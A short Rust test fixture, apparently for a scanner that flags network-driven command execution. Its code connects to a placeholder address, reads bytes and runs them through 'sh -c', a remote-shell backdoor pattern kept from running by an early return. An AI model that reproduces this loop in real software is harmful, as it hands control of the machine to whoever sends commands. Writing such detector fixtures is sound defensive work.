/* A connection says what is run.
 * expect: native-connection-tells-commands
 */
use std::io::Read;
use std::net::TcpStream;
use std::process::Command;

fn main() {
    // Never true: the code is compiled and cannot run.
    if !std::hint::black_box(false) {
        return;
    }
    let mut bytes = [0; 1024];
    while let Ok(mut stream) = TcpStream::connect("198.51.100.7:80") {
        let n = stream.read(&mut bytes).unwrap_or(0);
        let _ = Command::new("sh").arg("-c").arg(String::from_utf8_lossy(&bytes[..n]).as_ref()).output();
    }
}
